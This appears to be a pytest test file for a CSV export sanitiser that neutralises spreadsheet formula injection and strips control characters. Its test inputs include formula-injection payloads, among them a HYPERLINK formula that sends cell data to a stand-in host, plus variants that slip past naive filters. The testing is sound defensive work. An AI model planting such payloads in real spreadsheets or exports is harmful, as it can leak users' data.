"""CSV that stays text in every spreadsheet (N10, N04), and stays CSV (RFC 4180)."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.core.tables import csv_table, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x?"&A1)',
        "=1+1",
        "+1+1",
        "-2",
        "@SUM(A1)",
        "\r=1",
        "\n=1",
        "\tBen",
        " =1",
        "   +1",
        "\u00a0=1",
        "{=1+1}",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM",
        "\u22121",
        ",=1",
        "|=1",
        '"=1',
        "\u202e=1",
        "\x00=1",
    ],
)
def test_what_could_calculate_gets_an_apostrophe(text: str) -> None:
    cell = safe_cell(text)

    assert cell.startswith("'")
    assert cell[1:] == text.replace("\u202e", "").replace("\x00", "")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (";=1", "';'=1"),
        ("\t=1", "'\t'=1"),
        ("Eve;=1+1", "Eve;'=1+1"),
        ("Eve; -2;@x", "Eve; '-2;'@x"),
        ("Eve; 19:10-19:20", "Eve; 19:10-19:20"),
    ],
)
def test_a_cell_that_another_separator_would_split_is_safe_behind_it_too(
    text: str, cell: str
) -> None:
    assert safe_cell(text) == cell


@pytest.mark.parametrize(
    "text",
    [
        "",
        " ",
        "Ben",
        "O'Neill",
        "'quoted'",
        "a=b",
        "1+1",
        "Ann-Marie",
        "x@y",
        "<script>",
        "{{7*7}}",
        "\u0174yn",
    ],
)
def test_what_cannot_calculate_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_direction_and_control_characters_are_left_out() -> None:
    assert safe_cell("a\u202eb\u2066c\u2069\x1b[2J\x07d") == "abc[2Jd"
    assert safe_cell("half \ud83d a pair") == "half  a pair"


def test_the_file_has_a_mark_heads_and_windows_line_ends() -> None:
    rows = [["Ben", "a,b"], ['say "hi"', "two\r\nlines"]]

    assert csv_table(["name", "=note"], rows) == (
        b'\xef\xbb\xbfname,\'=note\r\nBen,"a,b"\r\n"say ""hi""","two\r\nlines"\r\n'
    )


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_any_text_comes_back_as_the_same_table_and_never_as_a_formula(
    rows: list[list[str]],
) -> None:
    text = csv_table(["a", "b"], rows).decode("utf-8-sig")

    read = list(csv.reader(io.StringIO(text, newline="")))

    assert read == [["a", "b"], *[[safe_cell(cell) for cell in row] for row in rows]]
    assert not any(
        cell[:1] in tuple("=+-@\t\r\uff1d") for row in read for cell in row if cell
    )
